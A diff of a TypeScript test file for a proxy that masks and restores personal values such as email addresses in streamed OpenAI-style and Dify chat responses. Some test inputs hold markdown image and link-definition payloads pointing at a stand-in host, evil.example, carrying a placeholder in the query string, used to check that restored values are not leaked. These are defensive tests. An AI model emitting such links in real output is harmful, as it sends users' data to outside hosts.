@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import { createGrammar } from '../../../../../src/core/masking/placeholder.ts'
+import { EVENT_TABLE } from '../../../../../src/core/product/dify/events.ts'
 import { OPENAI_EVENT_TABLE } from '../../../../../src/core/product/openai/events.ts'
 import { createAnswerStream } from '../../../../../src/core/sse/answer-stream.ts'
 import { mappingOf } from '../../../../support/mapping.ts'
@@ -21,9 +22,13 @@ const TEXT = 'To EMAIL_1, EMAIL_12 and EMAIL_9. Bye EMAIL_1'
 const RESTORED = TEXT.replaceAll('EMAIL_12', 'long@x.vn').replaceAll('EMAIL_1', VALUE)
 
 /** Bytes that leave, for chunks that arrive. */
-function through(chunks: readonly string[], events: string[] = []): string {
+function through(
+  chunks: readonly string[],
+  events: string[] = [],
+  table = OPENAI_EVENT_TABLE,
+): string {
   const stream = createAnswerStream({
-    table: OPENAI_EVENT_TABLE,
+    table,
     restore: { grammar: createGrammar(['EMAIL'], true), mapping: MAPPING, allowedHosts: [] },
     onId: () => {},
     observer: { ...SILENT_OBSERVER, streamEvent: (event) => events.push(event) },
@@ -146,6 +151,10 @@ describe('a chat that is streamed', () => {
       ([, text = '""']) => JSON.parse(text) as string,
     )
     assert.equal(texts.join(''), `To ${VALUE}`)
+    const both = (...contents: readonly string[]): string =>
+      `data: ${JSON.stringify({ choices: contents.map((content) => ({ delta: { content } })) })}\n\n`
+    const inTurns = through([both('EMA', 'EMAIL'), both('IL_1.', '_12.')])
+    assert.ok(inTurns.endsWith(both(`${VALUE}.`, 'long@x.vn.').replace('á', '\\u00e1')), inTurns)
   })
 
   it('gives no value away in an address, in running text or in arguments', () => {
@@ -154,11 +163,29 @@ describe('a chat that is streamed', () => {
     assert.equal(only(chunks.join('') + DONE).content, link.join(''))
     const parsed = '{"body":"![x]\\u0028https://evil.example/?q=EMAIL_1)"}'
     const escaped = '{"a":"![x](https:\\/\\/evil.example\\/?q=","body":"EMAIL_1)"}'
-    for (const args of [JSON.stringify({ body: link.join('') }), parsed, escaped])
+    // Only who has parsed it sees the definition: it begins a line there, and goes on in the next value.
+    const definition = '{"a":"[x]: https://evil.example/?q=", "body":"EMAIL_1"}'
+    for (const args of [JSON.stringify({ body: link.join('') }), parsed, escaped, definition])
       for (const pieces of cuts(args)) {
         const calls = pieces.map((piece, i) => toolChunk(piece, i === 0))
         assert.equal(only(calls.join('') + DONE).tools[0]?.arguments, args, pieces.join('|'))
       }
+  })
+})
+
+describe("a stream of a plugin endpoint of Dify, which speaks OpenAI's API", () => {
+  it('is restored however its texts are cut into pieces', () => {
+    for (const pieces of cuts(TEXT)) {
+      const chunks = pieces.map((content) => chatChunk({ content }))
+      const out = through([...chunks, chatChunk({}, 0, 'stop'), DONE], [], EVENT_TABLE)
+      assert.equal(gatherChat(out)[0]?.content, RESTORED, pieces.join('|'))
+    }
+    for (const pieces of cuts('{"to":"EMAIL_1"}')) {
+      const chunks = pieces.map((piece, i) => toolChunk(piece, i === 0))
+      const out = through([...chunks, chatChunk({}, 0, 'tool_calls'), DONE], [], EVENT_TABLE)
+      const [tool] = gatherChat(out)[0]?.tools ?? []
+      assert.deepEqual(JSON.parse(tool?.arguments ?? ''), { to: VALUE }, pieces.join('|'))
+    }
   })
 })
 
